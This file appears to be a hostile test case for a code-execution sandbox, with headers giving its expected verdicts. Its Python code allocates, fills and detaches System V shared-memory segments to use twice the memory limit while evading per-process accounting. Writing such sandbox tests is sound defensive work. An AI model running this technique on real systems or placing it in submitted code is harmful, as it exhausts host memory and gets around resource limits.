# attack: fills twice the memory that it may have, in System V shared memory that it detaches
# kind: resources
# task: plain
# official: crash|fail
# strict: fail|forged|suspect
# expect: segments that no process has attached count
import ctypes
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
libc.shmdt.argtypes = [ctypes.c_void_p]


def flood():
    size = 32 << 20
    for _ in range(2 * __LIMIT_MEMORY_MIB__ // 32):
        segment = libc.shmget(0, ctypes.c_size_t(size), 0o1600)
        if segment == -1:
            return False
        address = libc.shmat(segment, None, 0)
        ctypes.memset(address, 1, size)
        libc.shmdt(address)
    time.sleep(2)
    return True


WON = flood()


def task_func(n):
    return n * 2 if WON else None
